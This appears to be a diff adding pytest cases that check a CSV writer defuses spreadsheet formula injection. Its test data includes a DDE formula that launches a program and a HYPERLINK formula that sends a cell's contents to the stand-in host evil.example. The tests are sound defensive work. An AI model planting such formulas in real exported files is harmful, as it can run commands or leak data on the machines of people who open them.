@@ -1,11 +1,13 @@
 """Tables in: every bad one is an error that names the row and the column; every good one is numbers."""
 
+import csv
 import json
 
 import numpy as np
 import pytest
 
 from lawful.errors import LawfulError
+from lawful.report.evidence import _read_rows
 from lawful.table import COLUMNS, Observations, read_runs, write_csv
 
 GOOD = [
@@ -154,3 +156,54 @@ def test_numpys_own_numbers_are_numbers() -> None:
     assert [row["tokens"] for row in table] == [1024, 2048]
     with pytest.raises(LawfulError, match=r"expected a positive count \(tokens\), got np.int64\(-1\)"):
         read_runs([{"tokens": np.int64(-1), "loss": 1.0}, rows[0]])
+
+
+# what spreadsheets run when a table is opened (OWASP, CSV injection), and texts that look nearly like it
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1,"open")',
+    "+1+cmd",
+    "-1+cmd",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1+1",
+    "'=1",
+    "''=1",
+    "'@",
+    "=",
+]
+HARMLESS = ["'quoted'", "it's", "a=b", "size=3,tokens=1000", "", "'", "-", "x-y", "a\rb", "a\nb", 'a"b', "é"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
+def test_no_text_that_is_written_runs_in_a_spreadsheet_and_each_is_read_back_as_it_was(tmp_path, text):
+    row = {
+        "rung": text,
+        "at_axis": text,
+        "loss": 3.5,
+        "gain": -3.5,
+        "status": "finished",
+        "reason": "x",
+        "note": "-3.5",
+    }
+    path = tmp_path / "observations.csv"
+    write_csv(path, [row | {text or "also": 1}])
+    with path.open(encoding="utf-8", newline="") as file:
+        names, cells = list(csv.reader(file))  # what a spreadsheet sees
+    shown = dict(zip(names, cells, strict=True))
+    runs = [cell for cell in [*names, *cells] if cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\uff1d")]
+    runs += [cell for cell in cells if cell[:1] == "-" and cell != "-3.5"]
+    assert runs == ([] if text != "-" else runs)
+    assert shown["gain"] == "-3.5" and shown["note"] == "-3.5"
+    for reader in (read_runs, lambda where: _read_rows(where)):
+        (back,) = reader(tmp_path if reader is read_runs else path)
+        assert back["rung"] == text.strip() if text in HARMLESS else back["rung"] == text
+        assert (back["at_axis"] or "") == text
+        assert back[text or "also"] == 1
+
+
+def test_a_field_that_no_column_is_named_for_is_not_lost_in_silence(tmp_path):
+    with pytest.raises(ValueError, match="not in fieldnames"):
+        write_csv(tmp_path / "runs.csv", [{"loss": 1, "other": 2}], columns=["loss"])
